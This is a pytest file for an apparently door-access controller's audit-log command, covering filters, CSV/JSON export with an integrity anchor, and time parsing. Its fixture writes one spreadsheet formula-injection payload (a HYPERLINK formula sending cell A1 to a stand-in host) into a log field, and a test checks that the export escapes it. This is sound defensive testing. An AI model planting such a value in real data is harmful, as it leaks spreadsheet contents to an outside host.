"""``kunci log``: filters, table, CSV/JSON export with anchor and formula escaping, time arguments."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import datetime, timedelta, timezone
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from controller.store import audit, keys
from controller.cli import main
from controller.cli.log_cmd import parse_time
from controller.store.db import open_database, session_factory
from controller.errors import InvalidInput
from controller.paths import DataDir

NOW = datetime(2026, 3, 10, 12, 0, tzinfo=timezone.utc)
JAKARTA = ZoneInfo("Asia/Jakarta")


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def data(tmp_path: Path, capsys) -> Path:
    d = tmp_path / "data"
    assert run(capsys, "init", "--data", str(d))[0] == 0
    assert run(capsys, "user", "add", "--name", "Siti Rahma", "--agreement-signed", "today", "--data", str(d))[0] == 0
    engine = open_database(DataDir(d))
    with session_factory(engine)() as session, session.begin():
        audit.record(session, "access.granted", reason="granted", method="pin", user="U0001", door="main")
        audit.record(session, "access.denied", reason="unknown_credential", method="pin", door="main")
        # A hostile value in a free-text field must come out inert in a spreadsheet.
        audit.record(session, "access.denied", reason='=HYPERLINK("http://x?"&A1)', method="pin", door="main")
        audit.seal_pending(session, keys.load_audit_key(DataDir(d)))
    engine.dispose()
    return d


def test_table_newest_first_with_codes_only(capsys, data: Path) -> None:
    rc, out, _ = run(capsys, "log", "--data", str(data))
    lines = out.splitlines()
    assert rc == 0 and lines[0].startswith("SEQ")
    assert "access.denied" in lines[1] and "admin.user_added" in lines[-1]
    assert "U0001" in out and "Siti" not in out


def test_filters(capsys, data: Path) -> None:
    _, out, _ = run(capsys, "log", "--result", "denied", "--data", str(data))
    assert out.count("access.denied") == 2 and "granted" not in out
    _, out, _ = run(capsys, "log", "--user", "u0001", "--type", "access.*", "--data", str(data))
    assert out.count("access.granted") == 1 and "admin." not in out
    _, out, _ = run(capsys, "log", "--since", "1h", "--limit", "1", "--data", str(data))
    assert len(out.splitlines()) == 2
    _, out, _ = run(capsys, "log", "--until", "2000-01-01", "--data", str(data))
    assert out.strip() == "no events match"


def test_csv_export_anchor_and_escaping(capsys, data: Path) -> None:
    _, head_out, _ = run(capsys, "audit", "head", "--data", str(data))
    rc, out, _ = run(capsys, "log", "--format", "csv", "--data", str(data))
    assert not out.startswith("#")
    reader = csv.DictReader(io.StringIO(out))
    seq, mac = head_out.split()[1:3]
    columns = list(reader.fieldnames or ())
    assert columns[:-1] == ["seq", "time", "type", "reason", "method", "user", "door", "actor", "score", "detail"]
    assert columns[-1].startswith(f"kunci anchor {seq} {mac} exported_at=")
    rows = list(reader)
    assert ['\'=HYPERLINK("http://x?"&A1)'] == [r["reason"] for r in rows if "HYPERLINK" in r["reason"]]
    assert "Siti" not in out


def test_export_leaves_out_unsealed_rows_says_how_many_and_its_anchor_verifies(capsys, data: Path) -> None:
    # A row nobody sealed, written straight into the database (seq and mac NULL).
    with sqlite3.connect(DataDir(data).db_file) as conn:
        conn.execute("INSERT INTO events (time, type, reason, method, door, actor) "
                     "VALUES ('2026-03-10T12:00:00.000000Z', 'access.denied', 'unsealed_row', 'pin', 'main', 'x')")
    rc, out, err = run(capsys, "log", "--format", "csv", "--data", str(data))
    assert rc == 0 and "unsealed_row" not in out
    assert "1 matching event(s) not sealed yet were left out" in err
    reader = csv.DictReader(io.StringIO(out))
    anchor_column = (reader.fieldnames or [""])[-1]
    assert " unsealed_left_out=1" in anchor_column
    assert all(row["seq"] for row in reader)
    export = data / "export.csv"
    export.write_text(out)
    rc, verify_out, _ = run(capsys, "audit", "verify", "--data", str(data), "--anchor-from", str(export))
    assert "truncated" not in verify_out and "differs" not in verify_out and "export.csv" not in verify_out
    assert "unsealed" in verify_out  # verify still names the unsealed row (exit 1 for it), not the anchor
    rc, verify_out, _ = run(capsys, "audit", "verify", "--data", str(data), "--anchor", anchor_column)
    assert "truncated" not in verify_out and "differs" not in verify_out
    rc, json_out, err = run(capsys, "log", "--format", "json", "--data", str(data))
    assert json.loads(json_out.splitlines()[0])["unsealed_left_out"] == 1 and "unsealed_row" not in json_out
    assert "1 matching event(s) not sealed yet" in err


def test_csv_export_anchor_verifies_and_a_later_cut_is_found(capsys, data: Path) -> None:
    rc, out, _ = run(capsys, "log", "--format", "csv", "--data", str(data))
    export = data / "export.csv"
    export.write_text(out)
    rc, verify_out, _ = run(capsys, "audit", "verify", "--data", str(data), "--anchor-from", str(export))
    assert rc == 0, verify_out
    anchor_column = out.splitlines()[0].rsplit(",", 1)[1].strip('"')
    assert run(capsys, "audit", "verify", "--data", str(data), "--anchor", anchor_column)[0] == 0
    # The same header naming a seq beyond the log's end: the log was cut after the export.
    seq = int(anchor_column.split("seq=")[1].split()[0])
    export.write_text(out.replace(f"kunci anchor seq={seq} ", f"kunci anchor seq={seq + 5} ", 1))
    rc, verify_out, _ = run(capsys, "audit", "verify", "--data", str(data), "--anchor-from", str(export))
    assert rc == 1 and "truncated" in verify_out


def test_json_export(capsys, data: Path) -> None:
    rc, out, _ = run(capsys, "log", "--format", "json", "--result", "granted", "--data", str(data))
    lines = [json.loads(line) for line in out.splitlines()]
    assert rc == 0 and "anchor" in lines[0] and lines[0]["filters"] == {"result": "granted"}
    assert [(e["type"], e["user"]) for e in lines[1:]] == [("access.granted", "U0001")]


def test_bad_time_is_one_line_error(capsys, data: Path) -> None:
    rc, out, err = run(capsys, "log", "--since", "last tuesday", "--data", str(data))
    assert rc == 2 and out == "" and err.count("\n") == 1


@pytest.mark.parametrize(
    "text, end_of_day, expected",
    [
        ("24h", False, NOW - timedelta(hours=24)),
        ("7d", False, NOW - timedelta(days=7)),
        ("90m", False, NOW - timedelta(minutes=90)),
        ("2w", False, NOW - timedelta(weeks=2)),
        ("2026-03-01", False, datetime(2026, 3, 1, tzinfo=JAKARTA)),
        ("2026-03-01", True, datetime(2026, 3, 2, tzinfo=JAKARTA)),
        ("2026-03-01T08:30", False, datetime(2026, 3, 1, 8, 30, tzinfo=JAKARTA)),
        ("2026-03-01T08:30:00Z", False, datetime(2026, 3, 1, 8, 30, tzinfo=timezone.utc)),
    ],
)
def test_parse_time(text, end_of_day, expected) -> None:
    assert parse_time(text, JAKARTA, NOW, end_of_day=end_of_day) == expected


@pytest.mark.parametrize("text", ["yesterday", "24", "h", "2026-13-01", "-5d", ""])
def test_parse_time_refuses(text) -> None:
    with pytest.raises(InvalidInput):
        parse_time(text, JAKARTA, NOW)


def test_the_table_is_in_the_sites_time_and_exports_stay_utc(capsys, data: Path) -> None:
    """Issue 15 item 2: a person reads the site's local time in the table; the CSV and JSON exports keep UTC."""
    config = data / "kunci.toml"
    config.write_text(config.read_text().replace('timezone = "UTC"', 'timezone = "Asia/Jakarta"'))
    _, csv_out, _ = run(capsys, "log", "--format", "csv", "--data", str(data))
    newest = next(csv.DictReader(io.StringIO(csv_out)))
    utc = datetime.fromisoformat(newest["time"].replace("Z", "+00:00"))
    assert newest["time"].endswith("Z")
    rc, out, _ = run(capsys, "log", "--limit", "1", "--data", str(data))
    header, row = out.splitlines()
    assert rc == 0 and "TIME (Asia/Jakarta)" in header
    assert utc.astimezone(JAKARTA).strftime("%Y-%m-%d %H:%M:%S") in row and newest["time"] not in row


def test_status_lines_show_the_sites_time() -> None:
    from controller.cli.status_cmd import format_status

    status = {"timezone": "Asia/Jakarta", "lockout": {"active": True, "until": "2026-03-10T12:00:00.000000Z"},
              "alarms": [{"id": 3, "kind": "door_forced", "raised_at": "2026-03-10T11:00:00.000000Z"}],
              "alerts": {"webhook": {"running": True, "depth": 0, "last_success": "2026-03-10T11:30:00.000000Z"}}}
    text = format_status(status)
    assert "LOCKED OUT until 2026-03-10 19:00:00 Asia/Jakarta" in text
    assert "#3 Door forced open (door_forced) since 2026-03-10 18:00:00 Asia/Jakarta" in text
    assert "last delivered 2026-03-10 18:30:00 Asia/Jakarta" in text
    assert "until 2026-03-10 12:00:00 UTC" in format_status({**status, "timezone": None})
